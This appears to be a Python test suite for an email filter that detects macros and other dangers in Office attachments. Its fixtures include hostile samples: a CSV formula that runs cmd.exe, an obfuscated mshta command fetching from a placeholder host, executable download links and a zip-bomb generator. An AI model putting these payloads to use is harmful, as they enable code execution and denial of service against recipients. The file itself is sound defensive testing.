"""Macros and other dangers in attached office files."""

import base64
import io
import time
import zipfile
from collections.abc import Callable

import pytest
from tests.support.office import archive, container, packed

from lazaret.rules.evals import vba

Call = Callable[..., float | str]
Values = Callable[..., dict[str, float]]

BEGIN = b'Attribute VB_Name = "ThisDocument"\r\n'
SOURCE = BEGIN + b"Sub Greet()\r\nMsgBox 1\r\nEnd Sub\r\n"
AT_OPENING = BEGIN + b"Private Sub Workbook_Close()\r\nEnd Sub\r\nPrivate Sub Workbook_Open()\r\nEnd Sub\r\n"
RELATIONS = b'<Relationships><Relationship Id="a" Target="%s" TargetMode="External"/></Relationships>'
EVALS = (
    *("check_olemacro", "check_oleobject", "check_olertfobject", "check_olemacro_csv"),
    *("check_olemacro_malice", "check_olemacro_renamed", "check_olemacro_encrypted"),
    *("check_olemacro_zip_password", "check_olemacro_download_exe", "check_olemacro_redirect_uri"),
    "check_olemacro_mhtml_uri",
)


def mail(name: str, octets: bytes, kind: str = "application/octet-stream", encoding: str = "base64") -> bytes:
    return b"".join(
        [
            b"Subject: s\nContent-Type: multipart/mixed; boundary=b\n\n--b\n",
            f'Content-Type: {kind}; name="{name}"\nContent-Transfer-Encoding: {encoding}\n\n'.encode(),
            base64.encodebytes(octets) + b"\n--b--\n",
        ]
    )


def found(call: Call, raw: bytes, **settings: str) -> set[str]:
    given = {f"olemacro_{word}": (value,) for word, value in settings.items()}
    return {name.removeprefix("check_") for name in EVALS if call(raw, name, settings=given)}


def document(source: bytes = SOURCE) -> bytes:
    return container(
        {"WordDocument": b"text", "_VBA_PROJECT": b"", "ThisDocument": b"\0" * 40 + packed(source)}
    )


def test_visual_basic_is_unpacked() -> None:
    assert AT_OPENING == vba.decompress(packed(AT_OPENING))
    long = b"".join(b"line %d of a module\r\n" % n for n in range(2000))
    assert long == vba.decompress(packed(long))
    assert [AT_OPENING] == [s[: len(AT_OPENING)] for s in vba.sources(document(AT_OPENING)) or ()]


@pytest.mark.parametrize("octets", [b"", b"\x01", b"\x01\xff\xbf", b"\x01\x02\xb0\xff\xff\xff", b"\x02abc"])
def test_damaged_visual_basic_gives_nothing(octets: bytes) -> None:
    assert b"" == vba.decompress(octets)


def test_a_document_of_old_with_a_macro_is_found(call: Call) -> None:
    assert {"olemacro"} == found(call, mail("a.doc", document()))
    assert set() == found(call, mail("a.doc", container({"Workbook": b"text"})))


def test_a_macro_that_runs_at_opening_is_found_though_it_is_packed(call: Call) -> None:
    octets = document(AT_OPENING)
    assert b"Workbook_Open" not in octets
    assert {"olemacro", "olemacro_malice"} == found(call, mail("a.xls", octets))


def test_a_macro_is_found_though_its_sectors_are_out_of_order(call: Call) -> None:
    text = BEGIN + b"Rem " + bytes(range(97, 123)) * 3
    module = b"\0" * (512 - 8) + packed(text + AT_OPENING)
    octets = container({"Module": module}, scattered=True)
    assert b"\x00Attribut\x00" not in octets
    assert {"olemacro", "olemacro_malice"} == found(call, mail("a.xls", octets))


def test_a_new_document_with_a_macro_is_found(call: Call) -> None:
    octets = archive({"word/vbaProject.bin": document(AT_OPENING)})
    assert {"olemacro", "olemacro_malice"} == found(call, mail("a.docx", octets))


@pytest.mark.parametrize(
    ("expected", "files"),
    [
        ({"oleobject"}, {"xl/embeddings/oleObject1.bin": b"x"}),
        ({"olertfobject"}, {"word/afchunk.rtf": b"x"}),
        ({"olemacro"}, {"[Content_Types].xml": b'<a ContentType="application/vnd.ms-excel.macrosheet"/>'}),
        (set(), {"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}),
        ({"olemacro_redirect_uri"}, {"word/_rels/a.xml.rels": RELATIONS % b"http://a.example/x.dotm"}),
        ({"olemacro_mhtml_uri", "olemacro_redirect_uri"}, {"a.rels": RELATIONS % b"mhtml:http://a.example/"}),
        (set(), {"a.rels": RELATIONS.replace(b"External", b"Internal") % b"http://a.example/x"}),
    ],
)
def test_parts_of_a_new_document_are_known(call: Call, expected: set[str], files: dict[str, bytes]) -> None:
    assert expected == found(call, mail("a.docx", archive(files)))


def test_the_name_alone_may_say_that_there_are_macros(call: Call) -> None:
    assert {"olemacro"} == found(call, mail("a.docm", b"x"))
    assert set() == found(call, mail("a.docm", b"x"), macro_exts="never$", exts="never$")


def test_archives_are_looked_into_as_deep_as_the_setting_says(call: Call) -> None:
    once = archive({"a.doc": document()})
    twice, thrice = archive({"b.zip": once}), archive({"c.zip": archive({"b.zip": once})})
    assert {"olemacro"} == found(call, mail("a.zip", twice))
    assert set() == found(call, mail("a.zip", thrice))
    assert {"olemacro"} == found(call, mail("a.zip", thrice), zip_depth="3")
    assert set() == found(call, mail("a.zip", once), num_zip="0")


def test_only_some_files_of_an_archive_are_looked_into(call: Call) -> None:
    octets = archive({f"{n}.doc": b"x" for n in range(8)} | {"z.doc": document()})
    assert set() == found(call, mail("a.zip", octets))
    assert {"olemacro"} == found(call, mail("a.zip", octets), num_zip="9")


def test_a_password_of_an_archive_is_found(call: Call) -> None:
    octets = archive({"a.docm": b"x", "b.txt": b"y"}, encrypted=True)
    assert {"olemacro", "olemacro_zip_password"} == found(call, mail("a.zip", octets))
    assert {"olemacro_zip_password"} == found(call, mail("a.zip", archive({"b.txt": b"y"}, encrypted=True)))


def test_encryption_is_found(call: Call) -> None:
    octets = container({"EncryptedPackage": b"x"})
    head = octets[:600] + "EncryptedPackage".encode("utf-16-le") + octets[632:]
    assert {"olemacro_encrypted"} == found(call, mail("a.xlsx", head))


def test_a_renamed_file_is_found_when_every_file_is_looked_into(call: Call) -> None:
    raw = mail("a.dat", document())
    assert set() == found(call, raw)
    assert {"olemacro", "olemacro_renamed"} == found(call, raw, extended_scan="1")
    assert set() == found(call, mail("a.dat", b"nothing"), extended_scan="1")


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        (True, b"\0http://a.example/some/where/program.exe\0"),
        (True, b"\0HTTPS://a.example/some/where/program.CMD|"),
        (True, b"cmd /c ms^h^ta ht^tp:/^/a.example"),
        (False, b"\0http://a.b/x.exe\0"),
        (False, b"\0http://a.example/some/where/program.exe and"),
        (False, b"\0http://a.example/some/where/what?.exe\0"),
        (False, b" http://a.example/some/where/program.exe\0"),
    ],
)
def test_a_link_to_a_program_is_found(call: Call, expected: bool, text: bytes) -> None:
    assert expected == bool(call(mail("a.doc", b"text " + text), "check_olemacro_download_exe"))


def test_a_command_in_a_table_is_found(call: Call) -> None:
    command = b"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe' /c calc'!A1\n"
    assert {"olemacro_csv"} == found(call, mail("a.csv", command))
    assert {"olemacro_csv"} == found(call, mail("a.zip", archive({"b.csv": command})))
    assert set() == found(call, mail("a.csv", b'"A","B"\n'))


def test_text_and_other_encodings_are_passed_over(call: Call) -> None:
    assert set() == found(call, mail("a.doc", document(), kind="text/plain"))
    assert {"olemacro"} == found(call, mail("a.doc", document(), kind="text/plain"), skip_ctypes="never")
    assert set() == found(call, mail("a.doc", document(), encoding="8bit"))


def test_so_many_attachments_are_looked_into(call: Call) -> None:
    parts = b"".join(mail(f"{n}.doc", b"x").partition(b"\n\n")[2].removesuffix(b"--b--\n") for n in range(2))
    raw = mail("z.doc", document())
    raw = raw.replace(b"\n\n--b\n", b"\n\n" + parts + b"--b\n", 1)
    assert {"olemacro"} == found(call, raw)
    assert set() == found(call, raw, num_mime="2")
    assert set() == found(call, mail("z.doc", document()), max_file="100")


def test_what_a_document_loads_is_a_uri_of_the_message(values: Values) -> None:
    octets = archive({"a.rels": RELATIONS % b"http://far.example/x.dotm"})
    body = mail("a.docx", octets).partition(b"\n\n")[2].decode()
    fields = {"Content_Type": "multipart/mixed; boundary=b"}
    rule = "uri FAR m{^http://far\\.example/}\n"
    load = "loadplugin Mail::SpamAssassin::Plugin::OLEVBMacro\n"
    assert "FAR" in values(load + rule, body, **fields)
    assert "FAR" not in values(rule, body, **fields)


def deep_tree() -> bytes:
    """A directory of 5000 entries, each the right neighbour of the one before it."""
    return container({f"s{n}": b"" for n in range(150)})


def bomb() -> bytes:
    """A thousand files of a gigabyte each in name, of which there is one for all."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as writer:
        for n in range(900):
            writer.writestr(f"word/{n}.bin", b"\0" * 1_000_000)
        writer.writestr("word/vbaProject.bin", b"x")
    return made.getvalue()


def many_containers() -> bytes:
    return archive({f"{n}.bin": container({"a": b"x"}) for n in range(500)} | {"word/vbaProject.bin": b"x"})


def tiny_chunks() -> bytes:
    return container({"m": b"\x00\x00\x01\x0b\xb0" + b"\x00Attribut\x00e " + b"\x02\xb0\x00aa" * 150_000})


def much_source() -> bytes:
    module = packed(BEGIN + bytes(i * i % 251 for i in range(900_000)))
    return archive({f"{n}.bin": container({"m": module}) for n in range(20)} | {"word/vbaProject.bin": b"x"})


HOSTILE = {
    "much source": much_source,
    "a container whose sectors lead in a circle": lambda: container({"m": b"x" * 900_000}, looping=True),
    "a container with a deep tree": deep_tree,
    "a zip bomb": bomb,
    "an archive of containers": many_containers,
    "an archive of empty files": lambda: archive({f"{n}.doc": b"" for n in range(8000)}),
    "packed text in tiny pieces": tiny_chunks,
    "relations without end": lambda: archive({"a.rels": b'Relationship Target="x" ' * 40_000}),
    "targets without end": lambda: archive({"a.rels": b'Target="x' * 100_000}),
    "links without end": lambda: b"\0http://" + b"a" * 1_000_000,
    "links upon links": lambda: b"\0http://aaaaaaaaaaa.exe" * 45_000,
    "endings upon endings": lambda: b"\0http://aaaaaa" + b".exe|aa" * 140_000,
    "marks without end": lambda: vba.CONTAINER + b"\x00Attribut" * 100_000,
    "nothing but signs of entries": lambda: b"PK\x01\x02" * 250_000,
}


@pytest.mark.parametrize("case", HOSTILE)
def test_the_worst_case_is_looked_into_in_a_second(call: Call, case: str) -> None:
    octets = HOSTILE[case]()
    raw = mail("a.docx", octets)
    started = time.process_time()
    call(raw, "check_olemacro_malice")
    assert time.process_time() - started < 1.0


@pytest.mark.parametrize("cut", range(0, 9000, 450))
def test_a_damaged_file_never_raises(call: Call, cut: int) -> None:
    whole = document(AT_OPENING)
    for octets in (
        whole[:cut],
        whole[:cut] + b"\xff" * 40 + whole[cut + 40 :],
        archive({"a.doc": whole})[:cut],
    ):
        found(call, mail("a.doc", octets), extended_scan="1")
        found(call, mail("a.zip", octets), extended_scan="1")
